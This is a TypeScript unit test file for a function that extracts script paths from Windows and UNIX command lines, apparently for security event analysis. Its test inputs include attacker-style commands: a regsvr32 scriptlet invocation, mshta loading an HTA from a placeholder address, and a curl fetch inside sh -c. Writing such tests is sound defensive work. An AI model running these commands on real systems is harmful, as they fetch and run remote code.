import { describe, expect, it } from 'vitest'

import { scriptsNamedBy } from './named-scripts.ts'

const of = (line: string, folder?: string, paths: unknown[] = []) =>
  scriptsNamedBy({ paths, line, folder })

describe('scriptsNamedBy', () => {
  it('finds scripts on command lines of Windows, quoted, in commands and behind options', () => {
    expect(
      of('"C:\\Windows\\System32\\wscript.exe" //B "C:\\a b\\x.vbs" /q'),
    ).toEqual(['C:\\a b\\x.vbs'])
    expect(of(`powershell -NoP -Command "& 'C:\\t\\y.ps1' -All"`)).toEqual([
      'C:\\t\\y.ps1',
    ])
    expect(of('regsvr32 /s /n /u /i:C:\\t\\z.sct scrobj.dll')).toEqual([
      'C:\\t\\z.sct',
    ])
    expect(of('cmd /c "C:\\t\\run.cmd&C:\\t\\w.bat"')).toEqual([
      'C:\\t\\run.cmd',
      'C:\\t\\w.bat',
    ])
  })

  it('finds scripts on command lines of UNIX, with an ending or behind an interpreter', () => {
    expect(of('sudo bash /tmp/x.sh')).toEqual(['/tmp/x.sh'])
    expect(of('/bin/sh /tmp/.X11/run')).toEqual(['/tmp/.X11/run'])
    for (const end of [' ', '\t', ';', ',', '&', '|', '`', ')'])
      expect(of(`sh${end}/tmp/run`)).toEqual(['/tmp/run'])
    expect(of('/tmp/x.py --fast')).toEqual(['/tmp/x.py'])
    expect(of('sh setup', '/root')).toEqual(['/root/setup'])
    expect(of('sh -c "curl http://a/x.sh"')).toEqual([])
    expect(of('python3 -m http.server', '/root')).toEqual([])
  })

  it('places what is relative in the folder of its process', () => {
    expect(of('wscript .\\a.vbs', 'C:\\Users\\ann\\')).toEqual([
      'C:\\Users\\ann\\a.vbs',
    ])
    expect(of('bash ../x.sh', '/opt/a')).toEqual(['/opt/a/../x.sh'])
    expect(of('bash x.sh')).toEqual(['x.sh'])
  })

  it('takes no addresses, patterns and options for files', () => {
    expect(of('mshta http://198.51.100.7/x.hta')).toEqual([])
    expect(of('del C:\\t\\*.bat')).toEqual([])
    expect(of('tool -f.sh')).toEqual([])
  })

  it('takes the paths that an event states', () => {
    expect(of('', undefined, ['C:\\t\\a.ps1', '', null])).toEqual([
      'C:\\t\\a.ps1',
    ])
  })
})
